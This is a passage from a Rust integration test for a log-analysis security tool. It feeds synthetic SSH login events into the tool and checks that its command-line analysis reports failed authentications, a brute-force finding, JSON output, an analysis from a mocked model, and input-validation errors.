                    doc: serde_json::json!({
                        "@timestamp": vigil_core::event::format_timestamp(ts),
                        "event": {"dataset": "auth", "action": "ssh_login", "outcome": outcome},
                        "host": {"name": "web-1"}, "source": {"ip": "203.0.113.9"},
                        "user": {"name": "root"}, "message": "sshd"})
                    .to_string(),
                }
            })
            .collect();
        store
            .event_store()
            .append_events(org, None, "api", events, now)
            .await
            .unwrap();
        store.close().await;
    });
    let dd = data.to_string_lossy().into_owned();
    let o = vigil(
        &d.0,
        &["analyze", "--timeframe", "10"],
        &[("VIGIL_DATA_DIR", &dd)],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("7 events"), "{out}");
    assert!(
        out.contains("Failed authentications: 6 (by address: 203.0.113.9 (6)"),
        "{out}"
    );
    assert!(
        out.contains("[critical]") && out.contains("brute-force success"),
        "{out}"
    );
    assert!(
        out.contains("No model configured: deterministic analysis only."),
        "{out}"
    );

    let o = vigil(
        &d.0,
        &["analyze", "--timeframe", "10", "--json"],
        &[("VIGIL_DATA_DIR", &dd)],
    );
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["deterministic_only"], true);
    assert_eq!(report["event_refs"].as_array().unwrap().len(), 7);

    let fake = rt.block_on(vigil_integrations::testing::ollama(&["mistral:latest"]));
    let o = vigil(
        &d.0,
        &["analyze", "--timeframe", "10"],
        &[
            ("VIGIL_DATA_DIR", &dd),
            ("OLLAMA_API_URL", &fake.url),
            ("OLLAMA_MODEL", "mistral"),
        ],
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(
        out.contains("Model analysis (ollama/mistral, prompt vigil-analysis-v1)"),
        "{out}"
    );
    assert!(
        out.contains("Verdict: true_positive") && out.contains("ATT&CK: T1110.001"),
        "{out}"
    );
    assert_eq!(fake.requests().len(), 1);

    let o = vigil(
        &d.0,
        &["analyze", "--timeframe", "0"],
        &[("VIGIL_DATA_DIR", &dd)],
    );
    assert!(!o.status.success());
    assert!(text(&o).1.contains("timeframe must be 1 to 1440"));
    let o = vigil(
        &d.0,
        &["analyze", "--source", "loki"],
        &[("VIGIL_DATA_DIR", &dd)],
    );
    assert!(!o.status.success());
    assert!(
        text(&o).1.contains("Loki is not configured"),
        "{}",
        text(&o).1
    );
}
